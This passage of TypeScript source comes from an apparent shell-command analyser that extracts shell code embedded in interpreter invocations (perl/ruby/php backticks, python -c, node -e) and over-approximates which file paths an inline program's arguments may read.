        argv: () => (values.every((v) => v !== undefined && v.length === 1) ? values.map((v) => v![0]!) : undefined),
        count: args.length,
        all,
      };
      let lines = rule.shell(call) ?? [];
      // An unknown path inside a walk over a tree: each path under the walk's root.
      if (root !== undefined && rule.shell !== asCode) lines = lines.map((l) => (l.includes(UNKNOWN) ? `find ${q(root)} -exec ${l.split(UNKNOWN).join("{}")} \\;` : l));
      out.push(...lines);
      // More than this many operations: the rest is not examined, and the analysis says so.
      if (out.length > MAX_LINES) return { lines: out, truncated: true };
    }
  }
  // Backticks run shell code in perl, ruby and php.
  if (lang === "perl" || lang === "ruby" || lang === "php")
    for (const b of text.matchAll(/`([^`]*)`/g)) {
      if (b[1]!.length > 4096 || out.length > MAX_LINES) return { lines: out, truncated: true };
      out.push(b[1]!);
    }
  return { lines: out, truncated: code.length > MAX_CODE || renamesCut };
}

/**
 * Shell code embedded in an interpreter's command line (for the analyser to examine as scripts of their own);
 * `truncated` when a program was longer than the scan reads (MAX_CODE): its rest was not examined.
 */
export function embeddedShellCode(name: string, rest: readonly ShellWord[], stdin: readonly string[] = []): { codes: string[]; truncated: boolean } {
  const base = commandName(name);
  if (!interpreterOf(base)) return { codes: [], truncated: false };
  const codes: string[] = [];
  let truncated = false;
  for (const p of programs(base, rest, stdin)) {
    const e = shellEquivalents(p.lang, p.code);
    codes.push(...e.lines);
    if (e.truncated) truncated = true;
  }
  return { codes, truncated };
}

/** Options of the interpreters that take a value before the program (`python -W ignore -c …`, `node -r ts-node/register -e …`). */
const VALUE_OPTIONS = /^(?:-[WXIMrx]|--(?:require|import|loader|experimental-loader|input-type|conditions|env-file))$/;

/**
 * The arguments an inline program is given: `python3 -c CODE ARGS…`, `node -e CODE ARGS…`, `deno eval CODE ARGS…`,
 * `perl -e`, `ruby -e`, `php -r`, `osascript -e`, `Rscript -e`, `lua -e` (`words`: what follows the command name).
 * The program may open any of them (`open(sys.argv[1])`, `File.read(ARGV[0])`, perl's `<>`), and what it does is
 * not in view as a call the scan knows, so each one that may name a path counts as read (an `--opt=VALUE` its
 * VALUE): a sound over-approximation for restricting rules, which only care about the paths in their sets.
 * undefined when the program is not on the command line (a script file, stdin, a module).
 */
export function inlineProgramArguments(name: string, words: readonly ShellWord[]): string[] | undefined {
  const spec = INTERPRETERS.find((i) => i.test.test(name));
  if (!spec || spec.code.length === 0 || spec.firstOperand) return undefined;
  const letters = spec.code.filter((o) => /^-[A-Za-z]$/.test(o)).map((o) => o[1]!);
  for (let k = 0; k < words.length; k++) {
    const w = words[k]!.value;
    let after: number | undefined;
    if (spec.code.includes(w)) after = k + 2;
    // `-cCODE`, `-eCODE` attached, and combined flags ending in the code option (`python -Bc`, `perl -ne`).
    else if (/^-[A-Za-z]+$/.test(w) && letters.includes(w[w.length - 1]!)) after = k + 2;
    else if (w.length > 2 && !w.startsWith("--") && letters.includes(w[1]!)) after = k + 1;
    if (after !== undefined) return programArgumentPaths(words.slice(after));
    if (w === "-m" || !w.startsWith("-") || w === "-" || w === "--") return undefined;
    if (VALUE_OPTIONS.test(w)) k++;
  }
  return undefined;
}

function programArgumentPaths(args: readonly ShellWord[]): string[] {
  const out: string[] = [];
  for (const a of args) {
    const v = a.value;
    if (v === "" || v === "-" || v === "--") continue;
    if (v.startsWith("-")) {
      const eq = v.indexOf("=");
      if (eq > 0 && eq < v.length - 1) out.push(v.slice(eq + 1));
      continue;
    }
    out.push(v);
  }
  return out;
}
